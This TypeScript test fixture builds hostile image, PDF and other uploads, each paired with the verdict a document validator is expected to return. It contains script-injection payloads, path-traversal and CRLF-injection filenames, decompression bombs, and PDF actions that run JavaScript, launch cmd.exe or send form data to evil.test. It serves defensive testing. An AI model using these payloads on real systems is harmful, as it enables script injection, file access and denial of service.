import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import type { FileProblem, StoredType } from '#domain/documents/files.ts';
import * as files from './files.ts';

const { chunk, exifWithPlace, imageData, jpeg, jpegWith, latin1, pdf, png, pngWith } = files;
const { packedIntoStream, riffChunk, segment, webpHeader, webpWith } = files;

/** A file as an attacker or a phone makes it, and the bank's answer. */
export interface HostileFile {
  readonly what: string;
  readonly bytes: Buffer;
  readonly verdict: FileProblem | StoredType;
  readonly claimed?: { readonly name?: string; readonly type?: string };
}

const script = '<script>alert(document.domain)</script>';
const cut = (bytes: Buffer, by: number): Buffer => bytes.subarray(0, bytes.length - by);
const followedBy = (bytes: Buffer, text: string): Buffer => Buffer.concat([bytes, latin1(text)]);
const share = (bytes: Buffer, part: number): Buffer =>
  bytes.subarray(0, Math.round(bytes.length * part));

const webp = await files.webpOf(1_200, 800);
const losslessWebp = await files.webpOf(1_200, 800, true);
const webpPicture = webp.subarray(12);

/** A picture of two frames in the given format. */
const animated = (format: 'gif' | 'webp'): Promise<Buffer> =>
  sharp(Buffer.alloc(40 * 40 * 3, 90).fill(200, 0, 2_400), {
    raw: { width: 40, height: 40, channels: 3, pageHeight: 20 },
  })
    .toFormat(format)
    .toBuffer();

const hugeJpeg = Buffer.from(jpeg);
hugeJpeg.writeUInt32BE(0xea60_ea60, jpeg.indexOf(Buffer.from([0xff, 0xc0])) + 5);
const wrongChecksum = png();
wrongChecksum[wrongChecksum.length - 20] = 0x55;

/** Repeats the last scan of a progressive JPEG until the file has about 2 MB. */
const jpegOfManyScans = async (): Promise<Buffer> => {
  const whole = await sharp(png({ width: 3_000, height: 3_000 }))
    .jpeg({ progressive: true })
    .toBuffer();
  const scan = whole.subarray(whole.lastIndexOf(Buffer.from([0xff, 0xda])), whole.length - 2);
  const scans = Array.from({ length: Math.floor(2_000_000 / scan.length) }, () => scan);
  return Buffer.concat([cut(whole, 2), ...scans, whole.subarray(-2)]);
};

const profileOf = (parts: number): readonly Buffer[] =>
  Array.from({ length: parts }, (_, at) =>
    segment(
      0xe2,
      Buffer.concat([latin1('ICC_PROFILE\0'), Buffer.from([at + 1, parts]), Buffer.alloc(60_000)]),
    ),
  );

const bomb = (megabytes: number): Buffer => deflateSync(Buffer.alloc(megabytes * 1024 * 1024));
const textBomb = chunk('zTXt', Buffer.concat([latin1('Comment\0\0'), bomb(256)]));
const profileBomb = chunk('iCCP', Buffer.concat([latin1('profile\0\0'), bomb(256)]));

const file = (
  what: string,
  bytes: Buffer,
  verdict: HostileFile['verdict'],
  claimed?: HostileFile['claimed'],
): HostileFile => ({ what, bytes, verdict, ...(claimed && { claimed }) });

const named = (what: string, name: string): HostileFile =>
  file(`a JPEG named ${what}`, jpeg, 'image/jpeg', { name });

export const otherTypes: readonly HostileFile[] = [
  file('HTML', latin1(`<!doctype html>${script}`), 'unknown_type'),
  file('HTML named a JPEG', latin1(`<html>${script}</html>`), 'unknown_type', { name: 'a.jpg' }),
  file('SVG', latin1(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`), 'unknown_type'),
  file('SVG named a PNG', latin1('<?xml version="1.0"?><svg/>'), 'unknown_type', { name: 'a.png' }),
  file(
    'XML with an entity',
    latin1('<?xml version="1.0"?><!DOCTYPE a SYSTEM "x">'),
    'unknown_type',
  ),
  file('a GIF', latin1('GIF89a\u0001\0\u0001\0\0\0\0;'), 'unknown_type'),
  file('a GIF that is a script', latin1('GIF89a/*;*/=alert(1)'), 'unknown_type'),
  file(
    'a GIF followed by a Java archive',
    followedBy(await animated('gif'), 'PK\u0003\u0004'),
    'unknown_type',
  ),
  file('a program of Windows', latin1('MZ\u0090\0'), 'unknown_type', { name: 'a.pdf' }),
  file('a program of Linux', latin1('\u007fELF\u0002'), 'unknown_type', { name: 'a.png' }),
  file('a ZIP', latin1('PK\u0003\u0004'), 'unknown_type'),
  file('a Word file', latin1('\u00d0\u00cf\u0011\u00e0'), 'unknown_type'),
  file('a BMP', latin1('BM\u0046\0\0\0'), 'unknown_type'),
  file('a TIFF', latin1('II*\0\u0008\0\0\0'), 'unknown_type'),
  file('an AVIF', latin1('\0\0\0\u0018ftypavif\0\0\0\0'), 'unknown_type'),
  file('a film', latin1('\0\0\0\u0018ftypisom\0\0\0\0'), 'unknown_type'),
  file('an archive', latin1('\u001f\u008b\u0008'), 'unknown_type'),
  file('PostScript', latin1('%!PS-Adobe-3.0'), 'unknown_type'),
  file('text', latin1('rent, paid'), 'unknown_type'),
  file('zeros', Buffer.alloc(1000), 'unknown_type'),
  file(
    'a PDF after a page of HTML',
    latin1(`${script}\n${pdf().toString('latin1')}`),
    'unknown_type',
  ),
  file('a HEIC photo', latin1('\0\0\0\u0018ftypheic\0\0\0\0mif1heic'), 'heic'),
  file('a HEIC photo named a JPEG', latin1('\0\0\0\u0018ftypmif1\0\0\0\0'), 'heic', {
    name: 'a.jpg',
  }),
  file('nothing', Buffer.alloc(0), 'too_small'),
];

export const names: readonly HostileFile[] = [
  file('a JPEG named a PDF', jpeg, 'image/jpeg', { name: 'a.pdf', type: 'application/pdf' }),
  file('a PNG named HTML', png(), 'image/png', { name: 'a.html', type: 'text/html' }),
  named('a path', '../../etc/passwd'),
  named('a script', `${script}.jpg`),
  named('with another direction of writing', 'photo\u202Egpj.exe'),
  named('with a NUL', 'photo.jpg\0.html'),
  named('with line breaks', 'a.jpg\r\nContent-Type: text/html\r\n\r\n'),
  named('with 300 letters', `${'a'.repeat(300)}.jpg`),
  named('with half a letter', 'photo\uD800.jpg'),
];

export const pictures: readonly HostileFile[] = [
  file('a JPEG', jpeg, 'image/jpeg'),
  file('the head of a JPEG', jpeg.subarray(0, 20), 'damaged'),
  ...[0.2, 0.5, 0.9].map((part) => file(`${part} of a JPEG`, share(jpeg, part), 'damaged')),
  file('a JPEG cut at its end', cut(jpeg, 2), 'damaged'),
  file('a JPEG without a picture', Buffer.from([0xff, 0xd8, 0xff, 0xd9]), 'damaged'),
  file('a JPEG with a segment past its end', jpegWith(Buffer.from([0xff, 0xe1, 0xff])), 'damaged'),
  file('a JPEG of 3,600 million pixels', hugeJpeg, 'too_many_pixels'),
  file('a JPEG of 26,000 scans', await jpegOfManyScans(), 'damaged'),
  file('a JPEG with 3 MB of profile', jpegWith(...profileOf(50)), 'image/jpeg'),
  file('a JPEG with HTML after it', followedBy(jpeg, script), 'image/jpeg'),
  file('a JPEG with a ZIP after it', followedBy(jpeg, 'PK\u0003\u0004'), 'image/jpeg'),
  file('two JPEGs in one', Buffer.concat([jpeg, jpegWith(exifWithPlace)]), 'image/jpeg'),
  file('a JPEG with a script in a comment', jpegWith(segment(0xfe, latin1(script))), 'image/jpeg'),
  file('a JPEG with a location', jpegWith(exifWithPlace), 'image/jpeg'),
  file('a JPEG with PHP in APP13', jpegWith(segment(0xed, latin1('<?php'))), 'image/jpeg'),
  file('a small JPEG', await files.jpegOf(999, 600), 'too_few_pixels'),
  file('a PNG', png(), 'image/png'),
  file('the head of a PNG', png().subarray(0, 20), 'damaged'),
  ...[0.3, 0.6, 0.9].map((part) => file(`${part} of a PNG`, share(png(), part), 'damaged')),
  file('a PNG without its last chunk', cut(png(), 12), 'image/png'),
  file('a PNG with a wrong checksum', wrongChecksum, 'damaged'),
  file(
    'a PNG of 900 million pixels',
    pngWith({ width: 30_000, height: 30_000 }, imageData(30_000, 300)),
    'too_many_pixels',
  ),
  file('a PNG with data for more rows', png({}, imageData(1_200, 20_000)), 'image/png'),
  file('a PNG of no width', pngWith({ width: 0, height: 800 }, imageData(8, 8)), 'damaged'),
  file('a small PNG', png({ width: 1_000, height: 599 }), 'too_few_pixels'),
  file('a photo that is just large enough', png({ width: 600, height: 1_000 }), 'image/png'),
  file('a PNG with a text', png({}, chunk('tEXt', latin1(`Comment\0${script}`))), 'image/png'),
  file('a PNG with a text of 256 MB', png({}, textBomb), 'image/png'),
  file('a PNG with a profile of 256 MB', png({}, profileBomb), 'image/png'),
  file('a PNG with a location', png({}, chunk('eXIf', latin1('GPSLatitude'))), 'image/png'),
  file('a PNG with a script after it', followedBy(png(), script), 'image/png'),
  file('a PNG with a critical unknown chunk', png({}, chunk('EVIL', latin1(script))), 'damaged'),
  file(
    'an animated PNG',
    png({}, chunk('acTL', Buffer.from([0, 0, 0, 2, 0, 0, 0, 0]))),
    'image/png',
  ),
  file('a WebP', webp, 'image/webp'),
  file('a lossless WebP', losslessWebp, 'image/webp'),
  file('a small WebP', await files.webpOf(640, 480), 'too_few_pixels'),
  file('a WebP cut at its end', cut(webp, 4), 'damaged'),
  file('half of a WebP', share(webp, 0.5), 'damaged'),
  file(
    'a WebP with a location',
    webpWith(
      webpHeader(0x0c),
      webpPicture,
      riffChunk('EXIF', latin1('GPSLatitude')),
      riffChunk('XMP ', latin1(script)),
    ),
    'image/webp',
  ),
  file('an animated WebP', await animated('webp'), 'damaged'),
  file('a WebP without a picture', webpWith(webpHeader(0)), 'damaged'),
  file('a WebP with HTML after it', followedBy(webp, script), 'image/webp'),
];

/** A PDF whose page has further entries, and further objects after it. */
const pdfPage = (entries: string, ...objects: readonly string[]): Buffer =>
  latin1(
    pdf('', objects.join('\n'))
      .toString('latin1')
      .replace('/Parent 2 0 R', `/Parent 2 0 R ${entries}`),
  );

const stream = (number: number, entries: string, content: Buffer): string =>
  `${number} 0 obj << ${entries} /Length ${content.length} >>\nstream\n${content.toString('latin1')}\nendstream endobj`;

const action = (kind: string, more = ''): Buffer => pdf(`/OpenAction << /S /${kind} ${more} >>`);
const link = (kind: string, more: string): Buffer =>
  pdfPage(
    `/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /${kind} ${more} >> >>] /AA << /O << /S /${kind} ${more} >> >>`,
  );
const filled = pdfPage(
  '/Annots [<< /Subtype /Widget /Rect [0 0 9 9] /T (name) /AP << /N 8 0 R >> /AA << /K << /S /Hide /T (GPS) >> >> >>]',
  stream(8, '/Type /XObject /Subtype /Form /BBox [0 0 9 9]', latin1('0 0 9 9 re f')),
);
const packedBomb = stream(9, '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', bomb(512));
const photo = stream(
  8,
  '/Type /XObject /Subtype /Image /Width 1200 /Height 800 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode',
  jpegWith(
    await sharp(jpeg)
      .withExif({ IFD0: { Artist: 'GPS 23.78 N' } })
      .jpeg()
      .toBuffer()
      .then((whole) => whole.subarray(2, 4 + whole.readUInt16BE(4))),
  ),
);
const packed = (objects: string, filter?: string) => pdf('', packedIntoStream(objects, filter));

export const pdfs: readonly HostileFile[] = [
  file('a PDF', pdf(), 'application/pdf'),
  file('a PDF cut at its end', cut(pdf(), 40), 'application/pdf'),
  ...[0.1, 0.3, 0.5].map((part) => file(`${part} of a PDF`, share(pdf(), part), 'damaged')),
  file('the head of a PDF', latin1('%PDF-1.7'), 'damaged'),
  file('a PDF with HTML after it', followedBy(pdf(), script), 'application/pdf'),
  file('a PDF with HTML in a comment', pdf('', `% ${script}`), 'application/pdf'),
  file(
    'a PDF with HTML in its page',
    pdfPage('/Contents 8 0 R', stream(8, '', latin1(script))),
    'application/pdf',
  ),
  file('a PDF with a script', action('JavaScript', '/JS (app.alert(1))'), 'active_pdf'),
  file(
    'a PDF with a script under another name',
    pdf('/AA << /O << /S /J#61vaScript >> >>'),
    'active_pdf',
  ),
  file('a PDF with a script of the document', pdf('/Names << /JavaScript 7 0 R >>'), 'active_pdf'),
  file('a PDF with a script without a name', pdf('/X << /JS (app.alert(1)) >>'), 'active_pdf'),
  file('a PDF with a script at its page', link('JavaScript', '/JS (app.alert(1))'), 'active_pdf'),
  file('a PDF that starts a program', action('Launch', '/F (cmd.exe)'), 'active_pdf'),
  file('a PDF with a film', pdf('/RichMedia 7 0 R'), 'active_pdf'),
  file('a PDF form that sends itself', action('SubmitForm', '/F (http://evil.test)'), 'active_pdf'),
  file('a PDF form that reads a file', action('ImportData', '/F (a.fdf)'), 'active_pdf'),
  file('a PDF with a form of XFA', pdf('/AcroForm << /XFA 7 0 R >>'), 'active_pdf'),
  file('a PDF with a file in it', pdf('/Names << /EmbeddedFiles 7 0 R >>'), 'active_pdf'),
  file(
    'a PDF with an attached file',
    pdfPage('/Annots [<< /Subtype /FileAttachment /FS << /EF << /F 7 0 R >> >> >>]'),
    'active_pdf',
  ),
  file('a PDF that opens a file in itself', action('GoToE'), 'active_pdf'),
  file('a PDF with a link', link('URI', '/URI (http://evil.test)'), 'application/pdf'),
  file('a PDF that opens another', link('GoToR', '/F (other.pdf)'), 'application/pdf'),
  file('a PDF that opens at its first page', pdf('/OpenAction [3 0 R /Fit]'), 'application/pdf'),
  file('a PDF with a filled form', filled, 'application/pdf'),
  file(
    'a PDF with metadata',
    pdf(
      '/Metadata 8 0 R',
      `${stream(8, '/Type /Metadata', latin1('GPSLatitude'))}\n7 0 obj << /Author (GPS) >> endobj\ntrailer << /Info 7 0 R >>`,
    ),
    'application/pdf',
  ),
  file(
    'a PDF with a photo with a location',
    pdfPage('/Resources << /XObject << /P 8 0 R >> /Evil (GPS) >>', photo),
    'application/pdf',
  ),
  file('a locked PDF', pdf('', 'trailer << /Encrypt 5 0 R >>'), 'locked_pdf'),
  file('a PDF with packed objects', packed('7 0 << /Type /Font >>'), 'application/pdf'),
  file('a PDF with a packed script', packed('7 0 << /S /JavaScript >>'), 'active_pdf'),
  file('a PDF packed in an unknown way', packed('7 0 <<>>', '/Filter /Unknown'), 'damaged'),
  file(
    'a PDF that hides that it packs',
    latin1(packed('7 0 << /S /JavaScript >>').toString('latin1').replace('/ObjStm', '/Obj#53tm')),
    'active_pdf',
  ),
  file('a PDF packed to fill the memory', pdf('', packedBomb), 'damaged'),
  file('a PDF nested without end', pdf('', `9 0 obj ${'['.repeat(500_000)} endobj`), 'damaged'),
  file(
    'a PDF whose pages form a loop',
    pdf('', '2 0 obj << /Type /Pages /Kids [2 0 R 3 0 R 3 0 R] /Parent 2 0 R >> endobj'),
    'application/pdf',
  ),
  file(
    'a PDF of ten million pages',
    pdf('', '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 10000000 >> endobj'),
    'application/pdf',
  ),
  file('a PDF without pages', pdf('', '2 0 obj << /Type /Pages /Kids [] >> endobj'), 'damaged'),
  file(
    'a PDF with a loop of tables',
    pdf('', 'xref\n0 1\ntrailer << /Prev 0 >>\nstartxref\n0'),
    'application/pdf',
  ),
];
